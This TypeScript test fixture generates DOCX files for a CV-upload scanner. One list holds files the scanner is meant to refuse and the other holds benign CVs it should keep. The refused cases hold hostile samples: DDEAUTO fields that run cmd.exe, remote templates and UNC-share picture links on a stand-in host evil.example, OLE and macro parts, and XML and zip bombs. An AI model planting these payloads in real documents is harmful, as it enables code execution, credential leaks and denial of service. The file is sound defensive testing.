import type { JudgedFile, KeptFile } from './hostile-files.js';
import { docxFile, docxParts } from './cv-files.js';
import { zipFile } from './zip-file.js';

const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const EVIL = 'http://evil.example/t.dotm';

const relationships = (...tags: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${tags.join('')}</Relationships>`;
const external = (type: string, target: string, mode = 'External') =>
  relationships(`<Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="${mode}"/>`);
const internal = (type: string, target: string) =>
  relationships(`<Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}"/>`);
const settings = (rels: string) => docxFile({ 'word/_rels/settings.xml.rels': rels });
const linked = (type: string, target: string) => docxFile({ 'word/_rels/document.xml.rels': external(type, target) });
/** A part that the document holds, in the place and under the relationship given. */
const held = (type: string, name: string, content = 'x') =>
  docxFile({ [`word/${name}`]: content, 'word/_rels/document.xml.rels': internal(type, name) });
const contentTypes = (type: string, more = '') =>
  `<?xml version="1.0"?>${more}<Types xmlns="${PACKAGE}/content-types"><Override PartName="/word/foo.bin" ContentType="${type}"/></Types>`;
const prefixed = (prefix: string) =>
  `<${prefix}:Relationships xmlns:${prefix}="${PACKAGE}/relationships"><${prefix}:Relationship Id="r1" Type="${OFFICE}/attachedTemplate" Target="${EVIL}" TargetMode="External"/></${prefix}:Relationships>`;

const body = (content: string) => `<w:document xmlns:w="${WORD}"><w:body><w:p>${content}</w:p></w:body></w:document>`;
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
/** A field whose instruction stands in these runs. */
const field = (...runs: string[]) => `${mark('begin')}${runs.map(run).join('')}${mark('end')}`;
const withFields = (...fields: string[]) => docxFile({ 'word/document.xml': body(fields.join('')) });
const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
const utf16be = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le').swap16();

const active = (what: string, bytes: Buffer): JudgedFile => [what, bytes, 'cv.docx', 'active'];
const damaged = (what: string, bytes: Buffer): JudgedFile => [what, bytes, 'cv.docx', 'damaged'];
const kept = (what: string, bytes: Buffer): KeptFile => [what, bytes, 'cv.docx'];

export const refusedDocxFiles = (): JudgedFile[] => [
  active('a mode spelled with an entity', settings(external('attachedTemplate', EVIL, '&#69;xternal'))),
  active('a prefix with a hyphen', settings(prefixed('a-b'))),
  active('a long prefix', settings(prefixed('a'.repeat(30)))),
  active('a type within an address', settings(relationships(`<Relationship Id="r1" Target="${EVIL}? Type='/hyperlink'" Type="${OFFICE}/attachedTemplate" TargetMode="External"/>`))),
  active('relationships in capitals', docxFile({ 'word/_rels/settings.xml.RELS': external('attachedTemplate', EVIL) })),
  active('a template that calls itself internal', settings(internal('attachedTemplate', EVIL))),
  active('a template on a share, in escapes', settings(external('attachedTemplate', '%5C%5Cevil%5Ct.dotm'))),
  active('relationships in UTF-16, the other way round', docxFile({ 'word/_rels/settings.xml.rels': utf16be(external('attachedTemplate', EVIL).replace('?>', ' encoding="UTF-16"?>')) })),
  active('macros spelled with an entity', docxFile({ '[Content_Types].xml': contentTypes('application/vnd.ms-office.vba&#80;roject') })),
  active('a list of types in small letters', listInSmallLetters()),
  active('macros that only a relationship names', held('vbaProject', 'foo.bin')),
  active('an OLE object among the pictures', held('oleObject', 'media/image1.bin')),
  active('an OLE object that calls itself a table', held('oleObject', 'embeddings/a.xlsx')),
  active('an OLE object of the strict format', docxFile({ 'word/_rels/document.xml.rels': relationships('<Relationship Id="r1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject" Target="media/a.bin"/>') })),
  active('a control', held('control', 'foo.xml', '<x/>')),
  active('a page as part of the text', held('aFChunk', 'a.html', '<script>alert(1)</script>')),
  active('RTF as part of the text', held('aFChunk', 'a.rtf', '{\\rtf1{\\object\\objocx}}')),
  active('a DOCX as part of the text', held('aFChunk', 'a.docx', 'PK')),
  active('a document as part of the text', linked('subDocument', 'http://evil.example/x.docx')),
  active('buttons that run a macro from elsewhere', held('extensibility', 'customUI.xml', '<x/>')),
  active('a picture on a share', linked('image', '\\\\evil.example\\s\\x.png')),
  active('a picture on a share, as an address', linked('image', 'file://///evil.example/s/x.png')),
  active('a picture on a share, in short', linked('image', 'file://evil.example/s/x.png')),
  active('a DDE field', withFields(field(DDE))),
  active('a DDE field over several runs', withFields(field(' D', 'DE', 'AUTO', ' c:\\\\cmd.exe'))),
  active('a DDE field in small letters and entities', withFields(field('d&#100;e cmd "x"'))),
  active('a DDE field inside another', withFields(`${mark('begin')}${run('IF 1 = 1 ')}${field(DDE)}${mark('end')}`)),
  active('a DDE field in what another shows', withFields(`${mark('begin')}${run('PAGE')}${mark('separate')}${field(DDE)}${mark('end')}`)),
  active('a DDE field behind a word that Word skips', withFields(`${mark('begin')}<x:y xmlns:x="urn:x">${run('HYPERLINK')}</x:y>${run(DDE)}${mark('end')}`)),
  active('a DDE field that never ends', withFields(mark('begin') + run(DDE))),
  active('a DDE field in CDATA', withFields(field('<![CDATA[DDE cmd]]>'))),
  active('a simple DDE field', withFields('<w:fldSimple w:instr=" DDE cmd &quot;x&quot;"/>')),
  active('a DDE field in a header', docxFile({ 'word/header1.xml': body(field(DDE)) })),
  active('a DDE field in the footnotes', docxFile({ 'word/footnotes.xml': body(field(DDE)) })),
  active('a DDE field in UTF-16', docxFile({ 'word/document.xml': utf16be(body(field(DDE))) })),
  active('a DDE field in a part of any name', docxFile({ '[Content_Types].xml': contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'), 'word/foo.bin': body(field(DDE)) })),
  active('a DDE field far down, at a seam of two pieces', withFields(...seams())),
  active('a DDE field behind a multitude of empty runs', deflated(`${mark('begin')}${run('').repeat(150_000)}${run(DDE)}${mark('end')}`)),
  active('a multitude of pictures in one field', deflated(field('INCLUDEPICTURE\t'.repeat(600_000)))),
  active('a field whose name another gives', withFields(`${mark('begin')}${run(' D')}${field('QUOTE 68 69')}${run(' cmd')}${mark('end')}`)),
  active('a text from elsewhere', withFields('<w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example/x.docx&quot;"/>')),
  active('a linked table', withFields(field('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\s\\\\x.xlsx"'))),
  active('a picture field that leads to a share', withFields(field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\s\\\\x.png" \\d'))),
  active('the same by its older name', withFields(field(' IMPORT file://evil.example/s/x.png'))),
  active('a picture field behind a harmless one', withFields(field('INCLUDEPICTURE "https://a.example/x.png" ', 'INCLUDEPICTURE "\\\\\\\\evil\\\\x.png"'))),
  active('a picture whose address begins late', withFields(`${mark('begin')}${run('INCLUDEPICTURE "')}${run('').repeat(3_000)}${run('\\\\\\\\evil\\\\x.png"')}${mark('end')}`)),
  active('a picture whose address another field gives', withFields(`${mark('begin')}${run('INCLUDEPICTURE "')}${field('QUOTE 92')}${run('"')}${mark('end')}`)),
  damaged('relationships that are no XML', settings('<Relationships><Relationship')),
  damaged('relationships with a DTD', settings(`<!DOCTYPE r [<!ENTITY e "External">]>${external('attachedTemplate', EVIL, '&e;')}`)),
  damaged('a text with a DTD', docxFile({ 'word/document.xml': `<!DOCTYPE d [<!ENTITY x "x">]>${body('')}` })),
  damaged('a text in letters that hide others', docxFile({ 'word/document.xml': `<?xml version="1.0" encoding="UTF-7"?>+ADw-w:+AGkAbg-strText+AD4-` })),
  damaged('the same, told late', docxFile({ 'word/document.xml': `<?xml version="1.0"${' '.repeat(600)}encoding="UTF-7"?>+ADw-w:+AGkAbg-strText+AD4-` })),
  damaged('a text that is no XML', docxFile({ 'word/document.xml': 'text' })),
  damaged('a mark with a multitude of attributes', zipFile({ ...docxParts(''), 'word/_rels/a.xml.rels': `<x ${attributes()}/>` }, { deflate: true })),
  damaged('marks inside each other without end', deflated(field('PAGE') + '<x>'.repeat(500_000) + '</x>'.repeat(500_000))),
  damaged('relationships in pieces', docxFile({ 'word/_rels/settings.xml.rels/[0].piece': '<Relationships>' })),
]; // prettier-ignore

export const keptDocxFiles = (): KeptFile[] => [
  kept('a DOCX begun with a template of a disk', settings(external('attachedTemplate', 'file:///C:\\Users\\ravi\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'))),
  kept('a DOCX begun with a template on a Mac', settings(external('attachedTemplate', 'file:////Users/ravi/Library/Templates/My%20CV.dotx'))),
  kept('a DOCX begun with a template beside it', settings(external('attachedTemplate', 'Normal.dotm'))),
  kept('a DOCX with a template inside', settings(internal('attachedTemplate', 'Normal.dotm'))),
  kept('a DOCX that links to an address of mail', linked('hyperlink', 'mailto:ravi@mail.example')),
  kept('a DOCX that links to a file', linked('hyperlink', 'file:///C:\\certificates.pdf')),
  kept('a DOCX with a picture pasted from a disk', linked('image', 'file:///C:\\Users\\ravi\\me.png')),
  kept('a DOCX with a picture pasted on a Mac', linked('image', '/var/folders/x9/T/com.microsoft.Word/WebArchiveCopyPasteTempFiles/page1image1')),
  kept('a DOCX with a chart and its table', docxFile({ 'word/embeddings/Sheet1.xlsx': 'PK', 'word/charts/_rels/chart1.xml.rels': internal('package', '../embeddings/Sheet1.xlsx') })),
  kept('a DOCX with pictures, fonts and notes', docxFile({ 'word/media/image1.png': 'x', 'word/fonts/font1.odttf': '\xff\xfex', 'word/_rels/document.xml.rels': internal('image', 'media/image1.png'), 'word/_rels/fontTable.xml.rels': internal('font', 'fonts/font1.odttf'), 'customXml/_rels/item1.xml.rels': internal('customXmlProps', 'itemProps1.xml') })),
  kept('a DOCX with the fields that people use', withFields(
    field('HYPERLINK "https://linkedin.example/in/link" \\o "Oracle database, import"'), field('HYPER', 'LINK "https://x.example"'), field(' PAGE '),
    field('TOC \\o "1-3" \\h'), field('DATE \\@ "d MMM yyyy"'), field('MERGEFIELD Import'), field(' FORMTEXT '), field('INCLUDEPICTURE "https://x.example/a.png" \\* MERGEFORMATINET'),
    field('INCLUDEPICTURE "/var/folders/x9/T/page1image1" \\* MERGEFORMATINET'), field('INCLUDEPICTURE "C:\\\\Users\\\\ravi\\\\me.png"'), field('INCLUDEPICTURE  "cid:image001.png@01D9"'),
    `${mark('begin')}${run(' = ')}${field('PAGE')}${run(' - 1')}${mark('end')}`,
    `${mark('begin')}${mark('separate')}${field('PAGEREF _Toc1')}${mark('end')}`,
  )),
  kept('a DOCX that writes about fields', docxFile({ 'word/document.xml': body('<w:r><w:t>DDE, INCLUDETEXT and instrText</w:t></w:r>') })),
  kept('a DOCX in UTF-16', docxFile({ 'word/document.xml': utf16be(body('<w:r><w:t>سيرة ذاتية</w:t></w:r>')) })),
]; // prettier-ignore

function listInSmallLetters(): Buffer {
  const zip = docxFile({ '[Content_Types].xml': contentTypes('application/vnd.ms-office.vbaProject') });
  return Buffer.from(zip.toString('latin1').replaceAll('[Content_Types].xml', '[content_types].xml'), 'latin1');
}

const attributes = () => Array.from({ length: 500_000 }, (_, index) => `a${index}="1"`).join(' ');
const deflated = (content: string) =>
  zipFile({ ...docxParts(''), 'word/document.xml': body(content) }, { deflate: true });

/** A piece is 16 kB, and the one word that tells of a field lies across the end of the first. */
function seams(): string[] {
  const text = (length: number) => `<w:r><w:t>${'x'.repeat(length)}</w:t></w:r>`;
  const before = body('').indexOf('</w:p>') + text(0).length + '<w:fld'.length;
  return [text(16_384 - before), '<w:fldSimple w:instr="DDE cmd"/>'];
}
